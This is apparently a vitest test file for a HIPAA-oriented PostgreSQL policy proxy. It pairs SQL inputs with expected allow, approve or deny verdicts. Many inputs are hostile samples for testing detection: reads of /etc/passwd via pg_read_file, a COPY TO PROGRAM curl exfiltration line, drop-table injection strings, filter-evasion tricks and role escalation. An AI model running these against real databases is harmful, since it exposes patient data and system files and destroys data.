/**
 * The hipaa-baseline pack, table-driven, through the real PostgreSQL parser: every rule, and
 * the known ways around regex guardrails (comments, case, whitespace, quoting, escapes,
 * qualified names, CTEs, EXPLAIN ANALYZE, PREPARE/EXECUTE, functions anywhere, COPY PROGRAM,
 * DO and dynamic SQL, multi-statement messages). Each case runs in a fresh session; the PHI
 * tables are the demo database's (public.patients, public.encounters, public.lab_results).
 */
import { beforeAll, describe, expect, it } from 'vitest';
import type { PolicyEngine } from '../../../../proxy/policy/index.js';
import { baselineEngine, session, verdict } from './fixtures.js';

type Case = readonly [sql: string, expected: string];

const READS: Case[] = [
  ['select * from patients where patient_id = 1', 'allow allow'],
  ['SELECT * FROM patients LIMIT 10', 'allow allow'],
  ['select * from patients limit 1000', 'allow allow'],
  ['select * from patients limit 1001', 'approve phi-bulk-read'],
  ['select * from patients fetch first 5 rows only', 'allow allow'],
  ['select * from patients offset 10', 'approve phi-bulk-read'],
  ['select * from patients limit all', 'approve phi-bulk-read'],
  ['select * from patients limit null', 'approve phi-bulk-read'],
  ['select * from patients limit $1', 'approve phi-bulk-read'],
  ['select * from patients limit 5 + 5', 'approve phi-bulk-read'],
  ['select * from patients limit 0', 'allow allow'],
  ['select count(*) from departments', 'allow allow'],
  ['select * from departments', 'allow allow'],
  ['select * from pg_catalog.pg_class', 'allow allow'],
  ['select relname from pg_class', 'allow allow'],
  ['select * from information_schema.tables', 'allow allow'],
  ['select 1', 'allow allow'],
  ['select now()', 'allow allow'],
  ['values (1), (2)', 'allow allow'],
  ['table departments', 'allow allow'],
  ['table patients', 'approve phi-bulk-read'],
  ['select * from patients', 'approve phi-bulk-read'],
  ['select * from public.patients', 'approve phi-bulk-read'],
  ['select * from ehr.public.patients', 'approve phi-bulk-read'],
  ['select * from encounters', 'approve phi-bulk-read'],
  ['select * from lab_results where value > 5', 'allow allow'],
  ['select * from patients p join encounters e using (patient_id) where p.patient_id = 1', 'allow allow'],
  ['select * from patients p join encounters e on true', 'approve phi-bulk-read'],
  ['select count(*) from patients', 'approve phi-bulk-read'],
  ['select * from departments union all select * from patients', 'approve phi-bulk-read'],
  ['select first_name from patients union all select name from departments limit 10', 'allow allow'],
  ['select * from departments where code in (select department from encounters)', 'approve phi-bulk-read'],
  ['select * from departments where exists (select 1 from patients p where p.patient_id = 1)', 'allow allow'],
  [
    "select (select string_agg(ssn, ',') from patients) from departments where code = 'x'",
    'approve phi-bulk-read',
  ],
  [
    "select * from departments d, lateral (select * from patients p) x where d.code = 'x'",
    'approve phi-bulk-read',
  ],
  ['select * from generate_series(1, 10)', 'allow allow'],
  ['select * from departments tablesample system (10)', 'allow allow'],
  ['select * from patients tablesample bernoulli (1)', 'approve phi-bulk-read'],
  ['select row_number() over (order by code) from departments', 'allow allow'],
  ['select * from patients for update', 'approve phi-bulk-read'],
  ['select * from patients where patient_id = 1 for update', 'allow allow'],
  ['select * from other_schema.patients', 'allow allow'],
];

const EVASIONS: Case[] = [
  ['select * from /* a /* nested */ comment */ patients', 'approve phi-bulk-read'],
  ['select * from patients -- where patient_id = 1', 'approve phi-bulk-read'],
  ['select * from patients /* where patient_id = 1 */', 'approve phi-bulk-read'],
  ['select\n*\tfrom\n\n  patients', 'approve phi-bulk-read'],
  ['SeLeCt * FrOm PaTiEnTs', 'approve phi-bulk-read'],
  ['select * from PUBLIC.PATIENTS', 'approve phi-bulk-read'],
  ['select * from "patients"', 'approve phi-bulk-read'],
  ['select * from "public"."patients"', 'approve phi-bulk-read'],
  ['select * from "PATIENTS"', 'allow allow'],
  ['select * from "pat""ients"', 'allow allow'],
  ['select * from U&"\\0070atients"', 'approve phi-bulk-read'],
  ['select * from U&"!0070atients" UESCAPE \'!\'', 'approve phi-bulk-read'],
  ['select $$ from patients where $$ from departments', 'allow allow'],
  ['select $tag$;drop table patients;$tag$', 'allow allow'],
  ["select 'x; drop table patients'", 'allow allow'],
  ["select E'\\x3b drop table patients'", 'allow allow'],
  ["select U&'\\0070atients'", 'allow allow'],
  ["select E'\\''; drop table patients", 'deny ddl'],
  // standard_conforming_strings: a backslash does not escape in a plain literal.
  ["select 'a\\'; drop table patients; --'", 'deny ddl'],
  ["select E'a\\'; drop table patients; --'", 'allow allow'],
  ["select 'it''s'; delete from departments", 'deny update-delete-without-where'],
  ['select 1 /* nested /* two */ close */ ; delete from departments', 'deny update-delete-without-where'],
  ['select 1 /* /* */ ; delete from departments */', 'allow allow'],
  ['select 1 /* nested /* only one close */', 'deny unparseable'],
  ['with patients as (select * from departments) select * from patients', 'allow allow'],
  ['with p as (select * from patients) select * from p where patient_id = 1', 'approve phi-bulk-read'],
  ['with p as (select * from patients where patient_id = 1) select * from p', 'allow allow'],
  [
    'with x as (select 1) select * from (with patients as (select 2) select * from patients) s, patients',
    'approve phi-bulk-read',
  ],
  ['with patients as (select * from patients) select * from patients limit 5', 'approve phi-bulk-read'],
  [
    'with recursive r(n) as (select 1 union all select n + 1 from r where n < 10) select * from r',
    'allow allow',
  ],
  [
    'select * from departments d join lateral pg_read_file(d.code) f(x) on true',
    'deny server-file-functions',
  ],
];

const CURSORS: Case[] = [
  ['declare c cursor for select * from patients', 'approve phi-bulk-read'],
  ['declare c cursor with hold for select * from patients where patient_id = 1', 'allow allow'],
  [
    'declare c scroll cursor for select * from patients p join encounters e using (patient_id)',
    'approve phi-bulk-read',
  ],
  ['declare c cursor for select pg_read_file(code) from departments', 'deny server-file-functions'],
  ['fetch 10 from c', 'allow allow'],
  ['fetch all in c', 'allow allow'],
  ['move next in c', 'allow allow'],
  ['close c', 'allow allow'],
  ['close all', 'allow allow'],
];

const WRITES: Case[] = [
  ['insert into patients (patient_id) values (1)', 'approve phi-write'],
  ["insert into departments values ('x', 'y')", 'allow allow'],
  ['insert into public.lab_results (lab_id) values (1)', 'approve phi-write'],
  ['update patients set phone = null where patient_id = 1', 'approve phi-write'],
  ["update departments set name = 'x' where code = 'y'", 'allow allow'],
  ["update departments set name = 'x'", 'deny update-delete-without-where'],
  ["delete from departments where code = 'x'", 'allow allow'],
  ['delete from departments', 'deny update-delete-without-where'],
  ['DELETE FROM departments -- WHERE code = 1', 'deny update-delete-without-where'],
  ['delete from patients', 'deny update-delete-without-where'],
  ['delete from patients where true', 'approve phi-write'],
  ['update patients set phone = null where current of c', 'approve phi-write'],
  [
    'merge into patients p using departments d on p.state = d.code when matched then delete',
    'approve phi-write',
  ],
  [
    "merge into departments d using patients p on p.state = d.code when matched then update set name = 'x'",
    'approve phi-bulk-read',
  ],
  ['insert into departments select * from patients', 'approve phi-bulk-read'],
  ["insert into departments values ('a', 'b') returning *", 'allow allow'],
  ["update departments set name = upper(name) where code = 'x' returning *", 'allow allow'],
  ['delete from departments d using patients p where d.code = p.state', 'allow allow'],
  [
    "insert into departments values ('x', 'y') on conflict (code) do update set name = excluded.name",
    'allow allow',
  ],
  ['with d as (delete from departments returning *) select * from d', 'deny update-delete-without-where'],
  ["with d as (delete from departments where code = 'x' returning *) select * from d", 'allow allow'],
  ['with d as (delete from patients where patient_id = 1 returning *) select * from d', 'approve phi-write'],
  [
    'with u as (update patients set phone = null where patient_id = 1 returning patient_id) select count(*) from u',
    'approve phi-write',
  ],
  [
    'with recursive x as (select 1), d as (insert into patients (patient_id) values (1) returning 1) select * from x',
    'approve phi-write',
  ],
  [
    'select * from (with d as (delete from departments returning 1) select * from d) s',
    'deny update-delete-without-where',
  ],
  ["with i as (insert into departments values ('a', 'b') returning *) select * from i", 'allow allow'],
];

const EXPLAIN: Case[] = [
  ['explain delete from departments', 'allow allow'],
  ['explain analyze delete from departments', 'deny update-delete-without-where'],
  ['explain (analyze) delete from departments', 'deny update-delete-without-where'],
  ["explain (analyze true, buffers) update departments set name = 'x'", 'deny update-delete-without-where'],
  ['explain (analyze false) delete from departments', 'allow allow'],
  ['explain (analyze off) delete from patients', 'allow allow'],
  ['explain (analyze 0) delete from patients', 'allow allow'],
  ['explain (analyze 1) delete from patients', 'deny update-delete-without-where'],
  ['explain (analyze on, analyze off) delete from patients', 'allow allow'],
  ['explain analyze select * from patients', 'approve phi-bulk-read'],
  ['explain select * from patients', 'allow allow'],
  ["explain analyze select pg_read_file('x')", 'deny server-file-functions'],
  ['explain analyze insert into patients (patient_id) values (1)', 'approve phi-write'],
  ['EXPLAIN ANALYSE DELETE FROM departments', 'deny update-delete-without-where'],
  ['explain (format json, analyze) delete from departments', 'deny update-delete-without-where'],
  [
    'explain analyze with d as (delete from departments returning *) select * from d',
    'deny update-delete-without-where',
  ],
  ['explain analyze create table t as select 1', 'deny select-into'],
];

const PREPARED: Case[] = [
  ['prepare p as select * from patients where patient_id = $1', 'allow allow'],
  ['prepare p as delete from departments', 'deny update-delete-without-where'],
  ['prepare p as select * from patients', 'approve phi-bulk-read'],
  ['prepare p(int) as update patients set phone = null where patient_id = $1', 'approve phi-write'],
  ['execute p(1)', 'deny dynamic-sql'],
  ['prepare p as select 1; execute p', 'allow allow'],
  ['prepare p as insert into patients (patient_id) values ($1); execute p(1)', 'approve phi-write'],
  ['deallocate p', 'allow allow'],
  ['deallocate all', 'allow allow'],
  ['prepare p as select 1; deallocate p; execute p', 'deny dynamic-sql'],
  ['prepare p as select 1; deallocate all; execute p', 'deny dynamic-sql'],
  ['prepare p as select 1; discard all; execute p', 'deny dynamic-sql'],
  ["prepare p(text) as select $1; execute p(pg_read_file('x'))", 'deny server-file-functions'],
  ['explain analyze execute p', 'deny dynamic-sql'],
  ["prepare p as delete from departments where code = $1; explain analyze execute p('x')", 'allow allow'],
  ['prepare p as select 1; create table t as execute p', 'deny select-into'],
  ['prepare "P" as select 1; execute p', 'deny dynamic-sql'],
];

const FUNCTIONS: Case[] = [
  ["select pg_read_file('/etc/passwd')", 'deny server-file-functions'],
  ["select pg_catalog.pg_read_file('/etc/passwd')", 'deny server-file-functions'],
  ["SELECT PG_CATALOG.PG_READ_FILE('/etc/passwd')", 'deny server-file-functions'],
  ['select "pg_read_file"(\'/etc/passwd\')', 'deny server-file-functions'],
  ["select * from departments where name = pg_read_file('/etc/passwd')", 'deny server-file-functions'],
  ["select * from departments order by pg_read_binary_file('x')", 'deny server-file-functions'],
  ["select * from pg_ls_dir('.')", 'deny server-file-functions'],
  ["select pg_stat_file('x')", 'deny server-file-functions'],
  ['select pg_ls_waldir()', 'deny server-file-functions'],
  ["select lo_import('/etc/passwd')", 'deny large-object-functions'],
  ["select lo_export(1, '/tmp/x')", 'deny large-object-functions'],
  ['select lo_get(1)', 'deny large-object-functions'],
  ["select dblink_connect('x')", 'deny foreign-data-functions'],
  ["select * from dblink('host=x', 'select 1') as t(a int)", 'deny foreign-data-functions'],
  ['select postgres_fdw_disconnect_all()', 'deny foreign-data-functions'],
  [
    'select pg_terminate_backend(pid) from pg_stat_activity where pid <> pg_backend_pid()',
    'deny backend-signals',
  ],
  ['select pg_cancel_backend(1)', 'deny backend-signals'],
  ["select * from departments where code = (select pg_read_file('x'))", 'deny server-file-functions'],
  ["insert into departments values (pg_read_file('x'), 'y')", 'deny server-file-functions'],
  ["values (pg_read_file('x'))", 'deny server-file-functions'],
  ["select case when true then pg_read_file('x') end", 'deny server-file-functions'],
  ["select coalesce(null, pg_read_file('x'))", 'deny server-file-functions'],
  ["select array[pg_read_file('x')]", 'deny server-file-functions'],
  ["select (pg_read_file('x'))::text", 'deny server-file-functions'],
  [
    "select * from departments group by code having max(pg_read_file(code)) > ''",
    'deny server-file-functions',
  ],
  [
    "select count(*) filter (where pg_read_file('x') is not null) from departments",
    'deny server-file-functions',
  ],
  ["select * from rows from (pg_read_file('x'))", 'deny server-file-functions'],
  ["call pg_read_file('x')", 'deny server-file-functions'],
  ["select upper(name) from departments where lower(code) = 'x'", 'allow allow'],
  ["update departments set name = pg_read_file('x') where code = 'x'", 'deny server-file-functions'],
  ['select 1 from departments order by lo_import(code) limit 1', 'deny large-object-functions'],
  ["create table t (x text default pg_read_file('x'))", 'deny ddl'],
];

const COPY: Case[] = [
  ['copy patients to stdout', 'approve phi-copy-out'],
  ['copy (select * from patients where patient_id = 1) to stdout', 'approve phi-copy-out'],
  ['copy departments to stdout', 'allow allow'],
  ['copy departments to stdout with (format csv)', 'allow allow'],
  ['copy departments from stdin', 'allow allow'],
  ['copy patients from stdin', 'approve phi-write'],
  ["copy patients to '/tmp/x'", 'deny copy-program-or-file'],
  ["copy departments from '/etc/passwd'", 'deny copy-program-or-file'],
  ["copy (select * from patients) to program 'curl -d @- http://x'", 'deny copy-program-or-file'],
  ["copy departments from program 'cat /etc/passwd'", 'deny copy-program-or-file'],
  ["COPY (SELECT 1) TO PROGRAM 'x'", 'deny copy-program-or-file'],
  ["copy (select pg_read_file('x')) to stdout", 'deny server-file-functions'],
  ['copy (delete from departments returning *) to stdout', 'deny update-delete-without-where'],
];

const PROCEDURAL: Case[] = [
  ['do $$ begin perform 1; end $$', 'deny do-block'],
  ["DO LANGUAGE plpgsql $x$ BEGIN EXECUTE 'DROP TABLE patients'; END $x$", 'deny do-block'],
  ['do $$ begin delete from departments; end $$', 'deny do-block'],
  ['do language plpython3u $$ import os $$', 'deny do-block'],
  ["create function f() returns void language plpgsql as $$ begin execute 'x'; end $$", 'deny dynamic-sql'],
  ["create function f() returns int language sql as 'select 1'", 'deny ddl'],
  ['create procedure p() language sql begin atomic delete from departments; end', 'deny ddl'],
  ['call my_procedure(1)', 'allow allow'],
  ["select set_config('search_path', 'evil', false)", 'deny set-config-search-path'],
  ["select set_config(name, 'x', false) from (values ('role')) v(name)", 'deny dynamic-sql'],
  ["select set_config('ro' || 'le', 'x', false)", 'deny dynamic-sql'],
  ["select pg_catalog.set_config('role', 'postgres', false)", 'deny set-role'],
  ["select set_config('ROLE', 'x', false)", 'deny set-role'],
  ["select set_config('statement_timeout', '5s', false)", 'allow allow'],
  // pg_catalog.set_config has no argument names: a named call is not analyzable (and fails upstream).
  ["select set_config(setting_name => 'role', new_value => 'x', is_local => false)", 'deny dynamic-sql'],
  [
    "select set_config(new_value => 'x', is_local => false, setting_name => 'session_authorization')",
    'deny dynamic-sql',
  ],
  ["select set_config('session_authorization', 'x', true)", 'deny set-role'],
  ["select * from departments where set_config('role', 'x', false) is not null", 'deny set-role'],
];

const SETTINGS: Case[] = [
  ['set role postgres', 'deny set-role'],
  ['SET LOCAL ROLE postgres', 'deny set-role'],
  ['set session role postgres', 'deny set-role'],
  ['set session authorization postgres', 'deny set-role'],
  ['set session authorization default', 'deny set-role'],
  ['reset role', 'allow allow'],
  ["set statement_timeout = '5s'", 'allow allow'],
  ["set application_name to 'agent'", 'allow allow'],
  ['set search_path = public', 'allow allow'],
  ["set time zone 'UTC'", 'allow allow'],
  ['reset all', 'allow allow'],
  ['show search_path', 'allow allow'],
  ['show all', 'allow allow'],
  ['discard all', 'allow allow'],
  ['begin', 'allow allow'],
  ['start transaction isolation level serializable', 'allow allow'],
  ['set transaction read only', 'allow allow'],
  ['savepoint a', 'allow allow'],
  ['rollback to savepoint a', 'allow allow'],
  ['release savepoint a', 'allow allow'],
  ['commit', 'allow allow'],
  ['rollback', 'allow allow'],
  ['listen ch', 'allow allow'],
  ["notify ch, 'x'", 'allow allow'],
  ['unlisten *', 'allow allow'],
  ['vacuum departments', 'allow allow'],
  ['analyze patients', 'allow allow'],
];

const SCHEMA_AND_PRIVILEGES: Case[] = [
  ['create table t (a int)', 'deny ddl'],
  ['drop table patients', 'deny ddl'],
  ['alter table patients add column x int', 'deny ddl'],
  ['create index on patients (ssn)', 'deny ddl'],
  ['create view v as select * from patients', 'deny ddl'],
  ['create temp table t (a int)', 'deny ddl'],
  ["comment on table patients is 'x'", 'deny ddl'],
  ['create schema s', 'deny ddl'],
  ['alter table departments rename to d2', 'deny ddl'],
  ['create extension dblink', 'deny create-extension'],
  ['create extension if not exists postgres_fdw', 'deny create-extension'],
  ["alter system set log_statement = 'none'", 'deny alter-system'],
  ['alter system reset all', 'deny alter-system'],
  ["load 'auto_explain'", 'deny load'],
  ['grant select on patients to public', 'deny dcl'],
  ['revoke all on patients from bob', 'deny dcl'],
  ['create role r', 'deny dcl'],
  ["create user u password 'x'", 'deny dcl'],
  ['alter role postgres superuser', 'deny dcl'],
  ['drop role r', 'deny dcl'],
  ['grant pg_read_server_files to bob', 'deny dcl'],
  ['alter default privileges grant select on tables to bob', 'deny dcl'],
  ['truncate patients', 'deny truncate'],
  ['truncate table departments, encounters', 'deny truncate'],
  ['TRUNCATE ONLY departments RESTART IDENTITY', 'deny truncate'],
  ['lock table departments in access exclusive mode', 'deny lock'],
  ['lock patients', 'deny lock'],
  ['select * into t from patients', 'deny select-into'],
  ['select * into temp t from departments', 'deny select-into'],
  ['create table x as select * from patients', 'deny select-into'],
  ['create materialized view mv as select 1', 'deny select-into'],
  ['create table x as table departments with no data', 'deny select-into'],
];

const MESSAGES: Case[] = [
  ['select 1; select 2', 'allow allow'],
  ['select 1; drop table patients', 'deny ddl'],
  ['select * from departments; delete from departments', 'deny update-delete-without-where'],
  ['select 1; select * from patients', 'approve phi-bulk-read'],
  ['select * from patients; drop table x', 'deny ddl'],
  ["begin; delete from departments where code = 'x'; commit", 'allow allow'],
  ['select 1;;; select 2;', 'allow allow'],
  ['select 1; selec 2', 'deny unparseable'],
  ['selec 1', 'deny unparseable'],
  ["select 'unterminated", 'deny unparseable'],
  ['select * from', 'deny unparseable'],
  ['DROP TABEL x', 'deny unparseable'],
  ['select $$unterminated', 'deny unparseable'],
  ['/* unterminated comment select 1', 'deny unparseable'],
  ['', 'allow empty'],
  ['   ', 'allow empty'],
  [';', 'allow empty'],
  ['-- only a comment', 'allow empty'],
];

const SEARCH_PATH: Case[] = [
  ['set search_path = phi; select * from patients limit 5000', 'approve phi-bulk-read'],
  ['set search_path = "$user"; select * from patients', 'approve phi-bulk-read'],
  ['set search_path = pg_catalog, public; select * from pg_class', 'allow allow'],
  ['set search_path to archive; select * from archive.patients', 'allow allow'],
  ['set search_path = public; select * from patients where patient_id = 1', 'allow allow'],
  ["set search_path = 'archive'; select * from departments", 'allow allow'],
];

const TABLES = {
  reads: READS,
  evasions: EVASIONS,
  cursors: CURSORS,
  writes: WRITES,
  explain: EXPLAIN,
  'prepare and execute': PREPARED,
  functions: FUNCTIONS,
  copy: COPY,
  'procedural and set_config': PROCEDURAL,
  'settings, transactions, utilities': SETTINGS,
  'schema and privileges': SCHEMA_AND_PRIVILEGES,
  'multi-statement and unparseable messages': MESSAGES,
  search_path: SEARCH_PATH,
};

let engine: PolicyEngine;
beforeAll(async () => {
  engine = await baselineEngine();
});

describe('hipaa-baseline', () => {
  for (const [group, cases] of Object.entries(TABLES)) {
    describe(group, () => {
      it.each(cases)('%s ⇒ %s', (sql, expected) => {
        expect(verdict(session(engine).decide(sql))).toBe(expected);
      });
    });
  }

  it('has at least 150 cases and exercises every rule of the pack', () => {
    const all = Object.values(TABLES).flat();
    expect(all.length).toBeGreaterThanOrEqual(150);
    const fired = new Set(all.map(([, expected]) => expected.split(' ')[1]));
    for (const rule of engine.rules) expect(fired, rule.id).toContain(rule.id);
  });
});
